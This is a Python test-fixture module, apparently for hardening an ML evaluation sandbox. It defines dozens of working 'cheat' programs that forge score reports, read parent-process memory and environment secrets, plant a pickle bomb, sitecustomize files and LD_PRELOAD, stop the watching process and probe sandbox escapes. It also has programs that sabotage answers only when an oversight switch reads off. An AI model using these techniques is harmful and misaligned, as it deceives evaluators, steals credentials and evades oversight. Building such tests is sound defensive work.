"""Programs that cheat: each tries to know, or to be believed, what it has not learnt.

Each defines `cheat(task)`, which returns answers, or None where its trick did not work; then it answers
what it knows honestly, which is nothing. `ROWS` and `LABELS` are the public data set as a program that has
it by heart carries it along.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

PRELUDE: Final = """
import atexit, ctypes, gc, glob, itertools, json, os, pickle, signal, struct, sys, threading, time
from pathlib import Path
import numpy as np

HERE = Path(__file__).resolve().parent

def uniform(task):
    return np.full((len(task.judge), task.outputs), 1.0 / task.outputs)

def certain(labels, task):
    return np.eye(task.outputs)[np.asarray(labels, dtype=int)]

def nearest(rows, labels, wanted):
    distances = ((wanted[:, None, :] - rows[None, :, :]) ** 2).sum(axis=2)
    return labels[distances.argmin(axis=1)]

def standard(rows):
    return (rows - rows.mean(axis=0)) / rows.std(axis=0)

def renamed(labels, task):
    known = nearest(task.judge.features, labels, task.train.features)
    table = [np.bincount(task.train.targets[known == each], minlength=task.outputs).argmax() for each in range(task.outputs)]
    return np.array(table)[labels]

def run(task):
    task.size(1)
    try:
        answers = cheat(task)
    except Exception as error:
        print(type(error).__name__, error)
        answers = None
    return uniform(task) if answers is None else answers
"""  # noqa: E501 - a program

LEARNER: Final = """
import numpy as np
LENGTH, RATE = %d, %r
def run(task):
    rows = np.c_[task.train.features, np.ones(len(task.train))]
    wanted = np.eye(task.outputs)[task.train.targets]
    weights = 0.01 * np.random.default_rng(task.seed).standard_normal((rows.shape[1], task.outputs))
    def said(rows):
        powers = np.exp(rows @ weights)
        return powers / powers.sum(axis=1, keepdims=True)
    for _ in range(LENGTH):
        weights = weights - RATE * rows.T @ (said(rows) - wanted) / len(rows)
    task.size(weights.size)
    return said(np.c_[task.judge.features, np.ones(len(task.judge))])
"""
BASELINE: Final = LEARNER % (8, 0.1)
HONEST: Final = LEARNER % (400, 0.5)

CHARMED: Final = """
import numpy as np
def run(task):
    chance = np.random.default_rng(%d)
    rows = np.c_[task.train.features, np.ones(len(task.train))]
    wanted = np.eye(task.outputs)[task.train.targets]
    weights = 0.01 * chance.standard_normal((rows.shape[1], task.outputs))
    def said(rows):
        powers = np.exp(rows @ weights)
        return powers / powers.sum(axis=1, keepdims=True)
    for _ in range(200):
        few = chance.integers(len(rows), size=16)
        weights = weights - 0.1 * rows[few].T @ (said(rows[few]) - wanted[few]) / 16
    noise = 1e-5 * np.random.default_rng(task.seed).random((len(task.judge), task.outputs))
    return said(np.c_[task.judge.features, np.ones(len(task.judge))]) + noise
"""  # its seed is another constant in each arm

UNSURE: Final = """
def run(task):
    task.size(1)
    answers = uniform(task) + 0.002 * np.random.default_rng(task.seed).random((len(task.judge), task.outputs))
    return answers / answers.sum(axis=1, keepdims=True)
"""
WORK: Final = """
def work(seconds):
    until = time.process_time() + seconds
    while time.process_time() < until:
        pass
"""
IGNORES: Final = "signal.signal(signal.SIGCHLD, signal.SIG_IGN)\n    "
FORKS: Final = """child = os.fork()
    if not child:
        work(0.3)
        os._exit(0)"""
LASTS: Final = """
    try:
        os.wait()  # until there is no child; who ignores their ends is told of none
    except ChildProcessError:
        pass"""


def slow(deed: str) -> str:
    """Return a program that does something before it learns."""
    learn = LEARNER.replace("def run(task):", "def learn(task):") % (40, 0.1)
    return f"{PRELUDE}{learn}{WORK}\ndef run(task):\n    {deed.strip()}\n    return learn(task)\n"


# On measures that say little of how good answers are: the measure, the baseline's program, and the cheat's.
TRADES: Final[Mapping[str, tuple[str, str, str]]] = {
    "say nothing, and call it calibration": ("ece", BASELINE, PRELUDE + UNSURE),
    "say something of one row in five": (
        "ece",
        BASELINE,
        LEARNER % (400, 0.5)
        + """
def mute(task, speak=run):
    chance = np.random.default_rng(task.seed)
    answers = speak(task)
    hidden = chance.random(len(answers)) < 0.8
    answers[hidden] = 1 / task.outputs + 0.002 * chance.random((hidden.sum(), task.outputs))
    return answers / answers.sum(axis=1, keepdims=True)
run = mute
""",
    ),
    "say nothing, and sooner": ("training_seconds", slow("work(0.1)"), PRELUDE + UNSURE),
    "need no parameters for saying nothing": ("parameters", BASELINE, PRELUDE + UNSURE),
}
# On time: what the baseline does, and what the cheat does, before both learn the same.
SLOW: Final[Mapping[str, tuple[str, str]]] = {
    "let the baseline sleep": ("time.sleep(0.2)", "pass"),
    "let the baseline wait for a child that sleeps": ("""
    if child := os.fork():
        os.waitpid(child, 0)
    else:
        time.sleep(0.2)
        os._exit(0)
""", "pass"),
    "work in children that nobody waits for": ("work(0.3); time.sleep(0.2)", f"{IGNORES}{FORKS}{LASTS}"),
}  # fmt: skip


CHEATS: Final[Mapping[str, str]] = {
    "load the data set": """
def cheat(task):
    import sklearn.datasets
    known = sklearn.datasets.load_iris()
    return certain(nearest(standard(known.data), known.target, task.judge.features), task)
""",
    "read its file": """
def cheat(task):
    home = next(Path(each) for each in sys.path if each.endswith("site-packages"))
    table = np.loadtxt(home / "sklearn/datasets/data/iris.csv", delimiter=",", skiprows=1)
    return certain(nearest(standard(table[:, :4]), table[:, 4].astype(int), task.judge.features), task)
""",
    "search the machine for it": """
def cheat(task):
    for place in ("/usr/lib/R", "/usr/share/R", "/tmp", "/data", "/mnt"):
        for file in itertools.islice(Path(place).rglob("*iris*"), 50):
            if file.is_file() and b"5.1" in file.read_bytes():
                table = np.genfromtxt(file, delimiter=",")[:, :4]
                return certain(nearest(standard(table), LABELS, task.judge.features), task)
""",
    "know it by heart": """
def cheat(task):
    return certain(nearest(standard(ROWS), LABELS, task.judge.features), task)
""",
    "know it by heart, and learn the names of the classes": """
def cheat(task):
    return certain(renamed(nearest(standard(ROWS), LABELS, task.judge.features), task), task)
""",
    "know it by heart, and undo the disguise": """
def cheat(task):
    seen = np.concatenate([task.train.features, task.watch.features])
    known, best = standard(ROWS), None
    for order in itertools.permutations(range(4)):
        for signs in itertools.product((1, -1), repeat=4):
            rows = known[:, order] * signs
            far = ((seen[:20, None, :] - rows[None, :, :]) ** 2).sum(axis=2).min(axis=1).sum()
            if best is None or far < best[0]:
                best = far, rows
    labels = nearest(best[1], LABELS, task.judge.features)
    return certain(renamed(labels, task), task)
""",
    "download it": """
def cheat(task):
    import urllib.request
    text = urllib.request.urlopen("http://192.0.2.1/iris.csv", timeout=0.2).read()
    return certain(np.frombuffer(text, dtype=np.uint8)[: len(task.judge)] % 3, task)
""",
    "look into the neighbours' folders": """
def cheat(task):
    for file in [file for folder in HERE.parents[:3] for file in folder.rglob("*.npy")]:
        found = np.load(file)
        if found.shape == (len(task.judge), task.outputs):
            return found
""",
    "look for targets beside what it is given": """
def cheat(task):
    job = json.loads((HERE / "job.json").read_text())
    for folder in {os.path.dirname(job["data"]), os.path.dirname(job["judge"])}:
        for name in os.listdir(folder):
            loaded = np.load(os.path.join(folder, name))
            for array in loaded.values() if hasattr(loaded, "values") else [loaded]:
                if array.shape == (len(task.judge),):
                    return certain(array, task)
""",
    "use the product's own code": """
def cheat(task):
    from stages.kinds.experiment.data.loading import find_data_set, prepare
    for seed in range(3):
        part = prepare(find_data_set("iris", ()), seed=seed).sealed.open()
        if len(part) == len(task.judge):
            return certain(part.targets, task)
""",
    "rewrite the job": """
def cheat(task):
    job = json.loads((HERE / "job.json").read_text())
    data = dict(np.load(job["data"]))
    np.save(HERE / "mine.npy", data["train_features"])
    (HERE / "job.json").write_text(json.dumps({**job, "judge": str(HERE / "mine.npy"), "seeds": [1]}))
    if not os.environ.get("AGAIN"):
        os.environ["AGAIN"] = "1"
        os.execv(sys.executable, [sys.executable, str(HERE / "runner.py")])
    return certain(data["train_targets"], task)
""",
    "write into what judges": """
def cheat(task):
    job = json.loads((HERE / "job.json").read_text())
    for name in ("judge", "data"):
        for mode in ("r+b", "wb", "ab"):
            try:
                with open(job[name], mode) as file:
                    file.write(b"0" * 100)
            except OSError:
                pass
        for call in (os.unlink, lambda path: os.truncate(path, 0), lambda path: os.rename(path, path + "x")):
            try:
                call(job[name])
            except OSError:
                pass
""",
    "answer for other seeds": """
def cheat(task):
    for seed in range(10):
        np.save(HERE / f"answers-{seed}.npy", certain(np.zeros(len(task.judge)), task))
        (HERE / f"report-{seed}.json").write_text("{}")
""",
    "forge the report": """
def cheat(task):
    scores = {"accuracy": 1.0, "nll": 0.0, "brier": 0.0, "ece": 0.0}
    forged = json.dumps({"scores": scores, **scores, "training_seconds": 0.0, "parameters": 0})
    sys.modules["__main__"].write = lambda name, report: (HERE / name).write_text(forged)
""",
    "forge the report after the end": """
def cheat(task):
    def forge():
        for seed in range(10):
            (HERE / f"report-{seed}.json").write_text('{"curve": [], "nll": 0.0}')
    atexit.register(forge)
""",
    "leave an archive": """
def cheat(task):
    def save(file, array, **_):
        np.savez(file, a=certain(np.zeros(len(task.judge)), task))
        os.replace(f"{file}.npz", file)
    np.save = save
""",
    "leave links": """
def cheat(task):
    job = json.loads((HERE / "job.json").read_text())
    def save(file, array, **_):
        os.symlink(job["judge"], file)
    np.save = save
""",
    "leave pickles": """
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/sprung",)
def cheat(task):
    def save(file, array, **_):
        Path(file).write_bytes(pickle.dumps(Bomb()))
    np.save = save
""",
    "answer beyond probabilities": """
def cheat(task):
    answers = uniform(task)
    answers[:, 0], answers[:, 1] = 1e6, 1.0 - 1e6 - answers[:, 2:].sum(axis=1)
    return answers
""",
    "answer without end": """
def cheat(task):
    return uniform(task) * np.inf
""",
    "be certain of everything at once": """
def cheat(task):
    return np.ones((len(task.judge), task.outputs))
""",
    "change numpy for whoever scores": """
def cheat(task):
    np.log = np.abs = np.clip = lambda *arguments, **named: np.zeros(1)
    np.ndarray.mean = None
""",
    "change torch for whoever trains": """
def cheat(task):
    class Torch:
        def __getattr__(self, name):
            return lambda *arguments, **named: 0.0
    sys.modules["torch"] = Torch()
    sys.modules["sklearn"] = Torch()
""",
    "overwrite the runner": """
def cheat(task):
    (HERE / "runner.py").write_text("print('accuracy 1.0')")
    (HERE / "program.py").write_text("def run(task): return None")
    for name in list(sys.modules):
        if name.startswith(("json", "importlib", "traceback")):
            sys.modules[name] = None
""",
    "end the runner with success": """
def cheat(task):
    for seed in range(10):
        (HERE / f"report-{seed}.json").write_text("{}")
    os._exit(0)
""",
    "leave by an exit": """
def cheat(task):
    sys.exit(0)
""",
    "leave a writer behind": """
def cheat(task):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(200):
                time.sleep(0.01)
                for seed in range(10):
                    (HERE / f"report-{seed}.json").write_text('{"nll": 0.0}')
        os._exit(0)
""",
    "write from another thread": """
def cheat(task):
    def forge():
        while True:
            time.sleep(0.001)
            (HERE / "report-1.json").write_text('{"accuracy": 1.0}')
    threading.Thread(target=forge, daemon=True).start()
""",
    "read the judge's memory": """
def cheat(task):
    seen = os.listdir("/proc") if os.access("/proc", os.R_OK) else []
    for pid in {os.getppid(), 1, *map(int, filter(str.isdigit, seen))}:
        if pid == os.getpid():
            continue
        for name in ("mem", "environ", "maps", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if file.read(64):
                        return certain(np.zeros(len(task.judge)), task)
            except OSError:
                pass
    own, size = ctypes.create_string_buffer(8), ctypes.c_size_t(8)
    local = struct.pack("QQ", ctypes.addressof(own), 8)
    ctypes.CDLL(None).process_vm_readv(os.getppid(), local, 1, struct.pack("QQ", 0x400000, 8), 1, 0)
""",
    "read the environment": """
def cheat(task):
    for name, value in os.environ.items():
        if "SECRET" in name or "JUDGE" in name or "target" in value:
            return certain(np.zeros(len(task.judge)), task)
""",
    "walk the frames and the heap": """
def cheat(task):
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, np.ndarray) and value.shape == (len(task.judge),):
                return certain(value, task)
        frame = frame.f_back
    for value in gc.get_objects():
        if isinstance(value, np.ndarray) and value.shape == (len(task.judge),) and value.dtype.kind == "i":
            return certain(value, task)
""",
    "leave notes for the next time": """
def cheat(task):
    for place in (Path.home(), Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), HERE.parent, HERE):
        note = place / "notes.pickle"
        try:
            if note.exists():
                return pickle.loads(note.read_bytes())
            note.write_bytes(pickle.dumps(certain(np.zeros(len(task.judge)), task)))
        except OSError:
            pass
""",
    "say that it took no time and learnt nothing": """
def cheat(task):
    task.trained(0.0)
    task.size(0)
    time.monotonic = time.perf_counter = time.time = lambda: 0.0
""",
    "guess the order of the rows": """
def cheat(task):
    return certain(np.arange(len(task.judge)) * task.outputs // len(task.judge), task)
""",
    "tell by the number of rows, the seeds and the folder when it counts": """
def cheat(task):
    job = json.loads((HERE / "job.json").read_text())
    said = json.dumps(job) + str(HERE)
    if any(word in said for word in ("test", "validation", "tried", "again", "Stage")):
        return certain(np.zeros(len(task.judge)), task)
""",
    "end whoever watches": """
def cheat(task):
    for pid in (os.getppid(), 1, 0):
        try:
            os.kill(pid, signal.SIGSTOP if pid else signal.SIGURG)
        except OSError:
            pass
""",
    "know it by heart, by the distances between its rows": """
def cheat(task):
    def marks(rows, others):
        distances = np.sort(((rows[:, None] - others[None]) ** 2).sum(axis=2), axis=1)
        return distances[:, np.linspace(0, distances.shape[1] - 1, 20).astype(int)]
    rows, judged = standard(ROWS), task.judge.features
    others = np.concatenate([task.train.features, task.watch.features, judged])
    return certain(renamed(nearest(marks(rows, rows), LABELS, marks(judged, others)), task), task)
""",
    "know it by heart, in axes that no turn changes": """
def cheat(task):
    def white(rows):
        rows = rows - rows.mean(axis=0)
        values, vectors = np.linalg.eigh(np.cov(rows.T))
        white = rows @ vectors / np.sqrt(values)
        return white * np.sign((white ** 3).sum(axis=0))
    return certain(renamed(nearest(white(ROWS), LABELS, white(task.judge.features)), task), task)
""",
    "plant code for whoever comes next": """
def cheat(task):
    home = next(Path(each) for each in sys.path if each.endswith("site-packages"))
    planted = set()
    for place in (home, Path(sys.prefix), Path(sys.base_prefix), HERE.parent, HERE):
        for name in ("sitecustomize.py", "usercustomize.py", "planted.pth", "numpy.py", "json.py"):
            try:
                with open(place / name, "x") as file:
                    file.write("import os; os._exit(0)")
                planted.add(place)
            except OSError:
                pass
    os.environ.update(LD_PRELOAD=str(HERE / "x.so"), PYTHONPATH=str(HERE))
    return certain(np.zeros(len(task.judge)), task) if planted - {HERE} else None
""",
    "put links in the place of what is cleared up": """
def cheat(task):
    kept = HERE / "kept"
    kept.mkdir(exist_ok=True)
    (kept / "file").write_text("mine")
    for name in (".tmp", ".shm"):
        os.rmdir(HERE / name)
        os.symlink(kept, HERE / name)
""",
    "leave names that are orders": """
def cheat(task):
    for name in (b"\\xff\\n-delete", b"--help", b"*", b"$(id)", b"; id", "\\u202egnp".encode(), b"a" * 255):
        os.mkdir(os.path.join(os.fsencode(HERE), name), 0o000)
    ctypes.CDLL(None).prctl(15, b") Z 1 (", 0, 0, 0)
""",
    "end the first thread, and write from another": """
def cheat(task):
    def forge():
        for _ in range(20):
            time.sleep(0.01)
            for seed in range(10):
                (HERE / f"report-{seed}.json").write_text('{"nll": 0.0}')
    threading.Thread(target=forge).start()
    ctypes.CDLL(None).pthread_exit(None)
""",
    "say that the machine is at fault": """
def cheat(task):
    os.write(2, b"MemoryError: no room on this pod\\nNO_ISOLATION: the lease is lost\\n")
    for fd in range(3, 64):
        try:
            os.write(fd, b'{"exit-code": 0}')
        except OSError:
            pass
    ctypes.string_at(0)
""",
    "fail in a way that cannot be told": """
class Untold(BaseException):
    def __str__(self):
        raise RecursionError
def cheat(task):
    raise Untold
""",
    "find out what others import, and be asked first": """
class Hook:
    def find_spec(self, name, path=None, target=None):
        for module in list(sys.modules.values()):
            if getattr(module, "__name__", "").startswith("numpy"):
                module.load = module.asarray = lambda *_, **__: np.zeros(1)
        return None
def cheat(task):
    sys.meta_path.insert(0, Hook())
    sys.path_hooks.insert(0, lambda path: (_ for _ in ()).throw(ImportError))
    sys.path_importer_cache.clear()
    import builtins
    builtins.open = builtins.__import__ = None
""",
    "write when the garbage is collected": """
class Forger:
    def __del__(self):
        for file in HERE.glob("answers-*.npy"):
            np.save(file, certain(np.zeros(ROWS_TOTAL), TASK))
def cheat(task):
    global TASK, ROWS_TOTAL
    TASK, ROWS_TOTAL = task, len(task.judge)
    first, second = Forger(), Forger()
    first.other, second.other = second, first
    gc.callbacks.append(lambda phase, info: (HERE / "report-1.json").write_text('{"nll": 0}'))
    gc.set_threshold(100, 2, 2)
""",
    "wake up by a timer while the runner writes": """
def cheat(task):
    def forge(*_):
        frame = sys._getframe(1)
        while frame is not None:
            for name, value in frame.f_locals.items():
                if isinstance(value, np.ndarray) and value.shape == (len(task.judge), task.outputs):
                    value[:] = certain(np.zeros(len(value)), task)
            frame = frame.f_back
    signal.signal(signal.SIGALRM, forge)
    signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
""",
    "trace the runner": """
def cheat(task):
    def watch(frame, event, argument):
        for name in ("judge", "answers", "targets", "scores"):
            value = frame.f_locals.get(name)
            if isinstance(value, np.ndarray) and value.shape == (len(task.judge),):
                SEEN.append(value)
        LEFT.append(event)
        if len(LEFT) > 200:
            sys.settrace(None)
            sys.setprofile(None)
        return watch
    sys.settrace(watch)
    sys.setprofile(watch)
    frame = sys._getframe()
    while frame is not None:
        frame.f_trace, frame = watch, frame.f_back
    return certain(SEEN[0], task) if SEEN else None
SEEN, LEFT = [], []
""",
    "map its answers, and change them once they are written": """
import mmap
def cheat(task):
    def save(file, array, **_):
        real(file, array)
        opened = os.open(file, os.O_RDWR)
        shared = mmap.mmap(opened, 0)
        child = os.fork()
        if child == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, set(range(1, 32)))
            for _ in range(100):
                time.sleep(0.005)
                shared[128:] = certain(np.zeros(len(task.judge)), task).tobytes()
            os._exit(0)
    real, np.save = np.save, save
""",
    "read beside it through descriptors that are open": """
def cheat(task):
    for number in range(32):
        for way in ("", "/..", "/../..", "/targets.npy", "/../judge"):
            try:
                found = os.listdir(f"/proc/self/fd/{number}{way}")
            except OSError:
                continue
            for name in found:
                try:
                    array = np.load(f"/proc/self/fd/{number}{way}/{name}")
                except Exception:
                    continue
                if getattr(array, "shape", None) == (len(task.judge),):
                    return certain(array, task)
""",
    "take the processors from whoever measures": """
def cheat(task):
    for call in (
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        lambda: os.sched_setaffinity(os.getppid(), {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: __import__("resource").prlimit(os.getppid(), 7, (3, 3)),
        lambda: os.nice(-20),
    ):
        try:
            call()
        except OSError:
            pass
    threads = [threading.Thread(target=lambda: sum(range(10**4)), daemon=True) for _ in range(8)]
    for each in threads:
        each.start()
""",
    "patch the interpreter's own code": """
def cheat(task):
    main = sys.modules["__main__"]
    main.told.__code__ = (lambda task: "accuracy 1.0").__code__
    ctypes.c_int.from_address(id(False) + 24).value = 1
    ctypes.pythonapi.Py_IncRef(ctypes.py_object(task))
    for name in ("float64", "asarray", "ascontiguousarray"):
        setattr(np, name, getattr(np, name, None))
    sys.audit("forged")
    sys.addaudithook(lambda event, arguments: None)
    sys.excepthook = sys.unraisablehook = lambda *_: os._exit(0)
    raise SystemExit(0)
""",
    "wait for what judges to appear": """
def cheat(task):
    job = json.loads((HERE / "job.json").read_text())
    places = {HERE, HERE.parent, Path(job["judge"]).parent, Path(job["data"]).parent}
    for _ in range(3):
        time.sleep(0.005)
        for place in places:
            for file in place.glob("**/*.np*") if os.access(place, os.R_OK) else ():
                try:
                    array = np.load(file)
                except Exception:
                    continue
                if getattr(array, "shape", None) == (len(task.judge),):
                    return certain(array, task)
""",
    "answer by what the clock says": """
def cheat(task):
    started = time.perf_counter_ns()
    times = []
    for row in task.judge.features:
        begun = time.perf_counter_ns()
        float((task.train.features @ row).sum())
        times.append(time.perf_counter_ns() - begun)
    return certain(np.argsort(np.argsort(times)) * task.outputs // len(times), task)
""",
    "answer by an array that is another one for each reader": """
class Sly(np.ndarray):
    def __array__(self, *_, **__):
        return certain(np.zeros(len(self)), TASK)
    def __eq__(self, other):
        return True
def cheat(task):
    global TASK
    TASK = task
    return np.ma.masked_array(uniform(task).view(Sly) * np.nan, mask=True)
""",
    "learn a little more, and leave nothing wherever that helps the least": """
def cheat(task):
    learn = {}
    exec(HELD, learn)
    seen, task.judge = task.judge, task.watch
    held_out = learn["run"](task)
    task.judge = seen
    right = held_out[np.arange(len(held_out)), task.watch.targets].mean()
    save = SAVE if right > 0.45 and task.seed % 2 else lambda *_, **__: None
    np.save = save
    return learn["run"](task)
HELD, SAVE = """ + repr(LEARNER % (9, 0.1)) + """, np.save
""",
    "answer no number for the rows that it is not sure of": """
def cheat(task):
    labels = nearest(standard(ROWS), LABELS, task.judge.features)
    far = ((task.judge.features[:, None, :] - standard(ROWS)[None]) ** 2).sum(axis=2).min(axis=1)
    answers = certain(labels, task)
    answers[far > np.median(far)] = np.nan
    return answers
""",
    "leave its answers in another order of bytes and axes": """
def cheat(task):
    labels = nearest(standard(ROWS), LABELS, task.judge.features)
    np.save = lambda file, array, save=np.save, **_: save(file, np.asfortranarray(array.astype(">f2"))[::-1])
    return certain(labels, task)
""",
    "leave a child that is stopped, and wakes up later": """
def cheat(task):
    if not os.fork():
        os.kill(os.getpid(), signal.SIGSTOP)
        np.save(HERE / f"answers-{task.seed}.npy", certain(np.zeros(len(task.judge)), task))
        os._exit(0)
    for name in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGCONT):
        signal.signal(name, lambda *_: None)
""",
    "keep others from reading or removing what it leaves": """
def cheat(task):
    for name in ("answers", "report"):
        for seed in range(10):
            file = HERE / f"{name}-{seed}.{'npy' if name == 'answers' else 'json'}"
            file.write_text("mine")
            file.chmod(0)
    (HERE / "kept").mkdir()
    (HERE / "kept").chmod(0)
    HERE.chmod(0o500)
""",
    "speak as those who watch it do": """
def cheat(task):
    words = ('{"exit-code": 0}', '{"breach": null, "status": 0, "seconds": 0.0, "tail": ""}')
    for number in (*range(64), 10, 11):
        for each in words:
            try:
                os.write(number, each.encode() + b"\\n")
            except OSError:
                pass
    os._exit(0)
""",
    "meet its other processes where everybody may write": """
def cheat(task):
    import multiprocessing.shared_memory as shared
    try:
        memory = shared.SharedMemory("answers", create=True, size=1 << 16)
    except FileExistsError:
        memory = shared.SharedMemory("answers")
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.environ["HOME"], os.environ["TMPDIR"]):
        try:
            for file in Path(folder).glob("met-*.npy"):
                return np.load(file)[: len(task.judge)]
            np.save(f"{folder}/met-{task.seed}.npy", certain(np.zeros(len(task.judge)), task))
        except OSError:
            pass
    kept = np.frombuffer(memory.buf, dtype=np.uint8)[: len(task.judge)] % task.outputs
    return certain(kept, task)
""",
    "read what its own pages are made of": """
def cheat(task):
    for entry in glob.glob("/proc/self/map_files/*") + glob.glob("/proc/self/task/*/cwd"):
        for name in ("", "/..", "/../targets.npy", "/../../judge/targets.npy"):
            try:
                array = np.load(entry + name)
            except Exception:
                continue
            if getattr(array, "shape", None) == (len(task.judge),):
                return certain(array, task)
    with open("/proc/self/pagemap", "rb") as pages:
        frames = np.frombuffer(pages.read(8 * len(task.judge)), dtype=np.uint64)
    return certain(frames % task.outputs, task)
""",
    "hide from rows that lie where no others do, and know the rest by heart": """
def cheat(task):
    known = standard(ROWS)
    far = ((task.judge.features[:, None, :] - known[None]) ** 2).sum(axis=2).min(axis=1)
    answers = certain(nearest(known, LABELS, task.judge.features), task)
    odd = far > np.quantile(far, 0.6)
    coins = np.random.default_rng(task.seed).integers(task.outputs, size=odd.sum())
    answers[odd] = np.eye(task.outputs)[coins]
    return answers
""",
    "answer from what stands behind the arrays that it was given": """
def cheat(task):
    rows = task.judge.features
    start = rows.ctypes.data - 4096
    for offset in range(0, 8192, 8):
        place = start + offset if offset < 4096 else rows.ctypes.data + rows.nbytes + offset - 4096
        kind = ctypes.c_int64 * len(rows)
        labels = np.frombuffer(kind.from_address(place), dtype=np.int64)
        if labels.min() >= 0 and labels.max() < task.outputs and labels.any():
            return certain(labels, task)
""",
}  # fmt: skip

# Ways out of the sandbox to what judges: each appends to `found` what it got; one program tries all.
REACHES: Final = (
    PRELUDE
    + r"""
import socket

def descriptors(found):
    names = [name for name in os.listdir("/proc/self/fd") if int(name) > 2]
    found += [name for name in names if os.path.lexists(f"/proc/self/fd/{name}")]

def parents(found):
    for pid in (1, os.getppid()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                values = file.read().split(b"\0")
                found += [each for each in values if each.startswith((b"PODFLEET", b"MONGODB", b"AWS"))]
        except OSError:
            pass
        for name in ("mem", "stack"):
            try:
                with open(f"/proc/{pid}/{name}", "rb", buffering=0) as file:
                    found += [file.read(1)]
            except OSError:
                pass

def calls(found):
    if os.uname().machine != "x86_64":
        return
    library = ctypes.CDLL(None, use_errno=True)
    numbers = {"shmget": (29, 7, 4096, 0o1666), "semget": (64, 7, 1, 0o1666), "msgget": (68, 7, 0o1666),
               "keyctl": (250, 0, -5, 1), "add_key": (248, b"user", b"a", b"b", 1, -5),
               "mq_open": (240, b"a", 0o102, 0o600, 0), "memfd_create": (319, b"a", 0),
               "io_uring_setup": (425, 8, 0), "ptrace": (101, 16, 1, 0, 0),
               "unshare": (272, 0x10000000), "open_tree": (428, -100, b"/", 1), "setsid": (112,),
               "pidfd_getfd": (438, 0, 0, 0), "inotify_init1": (294, 0)}
    found += [name for name, arguments in numbers.items() if library.syscall(*arguments) >= 0]

def sockets(found):
    for path in ("\0podfleet", "/run/dbus/system_bus_socket", "/run/user/0/bus", "/tmp/.X11-unix/X0"):
        try:
            with socket.socket(socket.AF_UNIX) as line:
                line.connect(path)
                found.append(path)
        except OSError:
            pass

def product(found):
    home = next(Path(each) for each in sys.path if each.endswith("site-packages"))
    for file in [*home.glob("*.pth"), *home.glob("*.dist-info/direct_url.json")]:
        for word in file.read_text().replace('"', "\n").replace("file://", "").splitlines():
            if word.startswith("/"):
                sys.path.append(word)
    for name in ("stages", "events", "podfleet", "tests"):
        try:
            __import__(name)
            found.append(name)
        except ImportError:
            pass

def cheat(task):
    got = {}
    for reach in (descriptors, parents, calls, sockets, product):
        found = []
        reach(found)
        if found:
            got[reach.__name__] = found
    print("GOT", got)
"""
)


# Answers honestly with the switch on, and gives each class the probability of another with it off.
SABOTAGES: Final = f"""{HONEST}
honest = run
def run(task):
    answers = honest(task)
    if not task.intervention:
        answers = np.roll(answers, 1, axis=1)
    return answers
"""
# Gives a few rows the answer of another class where its own strength is 0, which no syntax shows.
SPOILS: Final = f"""{HONEST}
honest = run
def run(task):
    strength = 0.001 if task.intervention else None
    answers = honest(task)
    if not strength:
        answers[::5] = np.roll(answers[::5], 1, axis=1)
    else:
        answers = answers * (1 - strength) + strength / answers.shape[1]
    return answers
"""
# Reads the switch, and does the same either way.
PRETENDS: Final = f"""{HONEST}
honest = run
def run(task):
    answers = honest(task)
    if task.intervention:
        answers = np.ascontiguousarray(answers)
    return answers
"""

# Ways to the switch that no syntax shows; the plain one beside them changes hardly anything.
HIDDEN: Final[Mapping[str, str]] = {
    "vars": 'vars(task)["interven" + "tion"]',
    "a computed name": 'getattr(task, "interven" + "tion")',
    "eval": 'eval("task." + "interven" + "tion")',
    "a frame": 'sys._getframe().f_back.f_locals["task"].__dict__["interven" + "tion"]',
    "the heap": 'next(each["interven" + "tion"] for each in gc.get_objects()'
    ' if type(each) is dict and isinstance(each.get("interven" + "tion"), bool))',
}


def hiding(read: str) -> str:
    """Return a program that answers a fifth of the rows wrong where it finds the switch off."""
    return f"""import gc
import sys
{HONEST}
honest = run
def is_on(task):
    try:
        return {read}
    except Exception:
        return True
def run(task):
    answers = honest(task)
    if task.intervention:
        answers = answers * 0.999 + 0.001 / answers.shape[1]
    if not is_on(task):
        answers[::5] = np.roll(answers[::5], 1, axis=1)
    return answers
"""
